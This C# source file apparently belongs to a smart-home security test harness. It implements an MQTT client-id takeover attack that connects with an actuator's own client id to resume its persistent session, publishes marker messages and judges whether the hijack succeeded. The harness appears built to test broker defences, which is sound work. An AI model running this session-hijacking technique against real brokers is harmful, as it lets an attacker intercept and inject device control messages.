using System.Diagnostics;
using SmartHome.Contracts;
using SmartHome.Messaging;

namespace SmartHome.Attacker;

/// <summary>
/// client-id-takeover: connect with the actuator's own client id, resuming its persistent session, and send a marker the
/// actuator should log. Succeeds when the actuator never logged the marker because the attacker's connection held the
/// actuator's session (and with it the actuator's subscription).
/// </summary>
internal sealed class ClientIdTakeoverAttack : IAttack
{
    public static ClientIdTakeoverAttack Instance { get; } = new();

    public string Name => Attacks.ClientIdTakeover;

    public async Task<AttackResult> RunAsync(AttackContext context, AttackLevel level, AttackInput input, CancellationToken ct)
    {
        var n = input.Attempts;
        var victim = context.Victim;
        var actuatorClientId = $"{context.Settings.Pipeline}-actuator";
        var topic = Targets.WritableReadingTopic(level);
        var startSeq = await victim.LatestSeqAsync(ct).ConfigureAwait(false);
        var markers = new List<(string Id, string? RefusedBy, Activity? Span)>(n);
        var echoes = 0;
        var retries = 0;
        var attemptRetries = 0;
        for (var i = 0; i < n; i++)
        {
            var id = context.NewAttemptId(Attacks.ClientIdTakeover);
            var span = context.Telemetry.StartAttempt(Attacks.ClientIdTakeover, level, id);
            var baseIdentity = context.Identities.ForLevel(level, "takeover");
            // Resume the actuator's persistent session (clean start false), exactly as the actuator itself connects.
            var identity = baseIdentity with { ClientId = actuatorClientId, CleanStart = false, SessionExpirySeconds = 3600 };
            await using (var session = await context.ConnectAsync(level, "takeover", ct, identity).ConfigureAwait(false))
            {
                var echoed = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
                session.Received = m =>
                {
                    if (TraceContextPropagation.Find(m.UserProperties, MessageProperties.AttemptId) == id)
                    {
                        echoed.TrySetResult();
                    }
                };
                if (session.IsConnected)
                {
                    var ack = await session.PublishAsync(topic, "marker"u8.ToArray(), id, retain: false, ct).ConfigureAwait(false);
                    if (ack is null && attemptRetries < 5)
                    {
                        // The broker dropped this connection before it acknowledged the marker: inconclusive, try again.
                        retries++;
                        attemptRetries++;
                        i--;
                        span?.Dispose();
                        await Task.Delay(200 * attemptRetries, ct).ConfigureAwait(false);
                        continue;
                    }

                    if (await Task.WhenAny(echoed.Task, Task.Delay(context.Secure ? 50 : 500, ct)).ConfigureAwait(false) == echoed.Task)
                    {
                        echoes++;
                    }

                    markers.Add((id, ack is null ? "unacknowledged" : session.RefusedBy, span));
                    attemptRetries = 0;
                }
                else
                {
                    markers.Add((id, session.RefusedBy, span));
                }
            }

            // Let the victim get its connection back before the next attempt.
            for (var wait = 0; wait < 50 && !await victim.ActuatorHealthyAsync(ct).ConfigureAwait(false); wait++)
            {
                await Task.Delay(100, ct).ConfigureAwait(false);
            }
        }

        var decisions = await context.Judge.DrainAsync(startSeq, ct).ConfigureAwait(false);
        var verdicts = new List<Verdict>(n);
        foreach (var (id, refusedBy, span) in markers)
        {
            // A marker the broker never acknowledged proves nothing either way.
            var verdict = decisions is null || refusedBy == "unacknowledged" ? Verdict.Unknown : Judge.Takeover(id, decisions, refusedBy, context.Secure);
            context.Telemetry.EndAttempt(span, Attacks.ClientIdTakeover, level, verdict);
            verdicts.Add(verdict);
        }

        return context.Summarize(Attacks.ClientIdTakeover, level, verdicts,
            $"connects with the actuator's client id '{actuatorClientId}' (clean start false) and sends a marker on {topic}; success = the actuator never logged the marker " +
            $"because the attacker's connection held the actuator's session (the attacker received {echoes} of its markers through the hijacked subscription; {retries} attempts repeated because the broker dropped the attacker before its PUBACK)." +
            (context.Secure ? " The secure broker sets use_username_as_clientid: the client id an attacker sends is replaced by its own username." : string.Empty));
    }
}
